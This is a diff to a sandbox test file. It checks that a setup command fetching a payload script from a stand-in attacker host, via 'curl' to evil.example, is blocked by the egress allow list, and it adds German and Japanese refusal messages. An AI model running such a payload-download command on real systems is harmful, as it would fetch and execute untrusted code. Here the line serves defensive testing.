@@ -11,6 +11,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createBwrapSandbox } from '../../../src/sandbox/bwrap-sandbox.js';
 import { parseAllowEntry } from '../../../src/sandbox/egress/egress-policy.js';
 import type { EgressRefusal } from '../../../src/sandbox/egress/egress-proxy.js';
+import { stringsFor } from '../../../src/slack/strings/index.js';
 import { runSetup } from '../../../src/verification/run-verification.js';
 import { setupEgressLine } from '../../../src/verification/render-verification.js';
 import { startRedisServer, type RedisServer } from '../../helpers/redis-server.js';
@@ -209,7 +210,14 @@ describe('setup egress: a planted install script against the host (real bwrap, r
     const sandbox = createBwrapSandbox({ root: workspace.path });
     const setup = await runSetup({ sandbox, dir, commands: { setup: 'curl -sSf -m 5 https://evil.example/payload.sh', sources: [] }, timeoutMs: 20_000 });
     expect(setup?.passed).toBe(false);
-    expect(setupEgressLine(setup!)).toBe('Setup could not reach evil.example:443: not in the egress allow list (sandbox.egress.allow).');
+    expect(setupEgressLine(setup!.egressRefused)).toBe('Setup could not reach evil.example:443: not in the egress allow list (sandbox.egress.allow).');
+    // A German or Japanese thread says it in its words; the host and the setting stay as they are.
+    expect(setupEgressLine(setup!.egressRefused, stringsFor('de').verification)).toBe(
+      'Die Installation konnte dieses Ziel nicht erreichen: evil.example:443: nicht in der Liste erlaubter Ziele (sandbox.egress.allow).',
+    );
+    expect(setupEgressLine(setup!.egressRefused, stringsFor('ja').verification)).toBe(
+      'セットアップは次の接続先に到達できませんでした: evil.example:443: 送信先の許可リスト(sandbox.egress.allow)にありません。',
+    );
   }, 30_000);
 });
 
